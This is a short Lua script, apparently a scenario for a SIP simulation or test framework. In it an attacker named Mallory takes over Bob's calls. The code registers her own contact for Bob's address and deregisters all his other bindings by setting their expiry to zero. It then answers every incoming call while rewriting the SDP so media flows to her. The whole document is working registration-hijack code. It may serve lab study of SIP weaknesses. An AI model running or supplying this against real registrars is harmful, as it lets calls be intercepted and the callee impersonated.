-- Mallory wants Bob's calls.  She registers her own address for him; the 200
-- lists where else he can be reached, and she ends all those bindings.  Who
-- calls Bob from then on is answered by her, at once.
local bob = "sip:bob@example.com"
local mine = "<sip:bob@" .. self.addr .. ">"
local cseq = 0

local function register(contacts)
	cseq = cseq + 1
	send {
		method = "REGISTER", uri = "sip:example.com", from = bob, to = bob,
		call_id = "takeover@" .. self.addr, cseq = cseq,
		headers = { Contact = contacts },
	}
end

function on_start()
	after(settings.start .. "s", function()
		register { mine .. ";expires=3600" }
	end)
end

function on_reply(m, answer)
	if m.method ~= "REGISTER" then return end
	if answer.status ~= 200 then
		return print("Rejected: " .. answer.status)
	end

	local others = {}
	for _, contact in ipairs(answer:all "Contact") do
		local uri = contact:match "<[^>]+>"
		if uri ~= mine then others[#others + 1] = uri .. ";expires=0" end
	end
	if #others > 0 then return register(others) end
	print "Bob's calls are mine."
end

function on_call(call)
	local sdp = call.invite.body:gsub("IN IP4 [%d.]+", "IN IP4 " .. self.addr)
	call:answer { body = sdp, type = "application/sdp" }
end
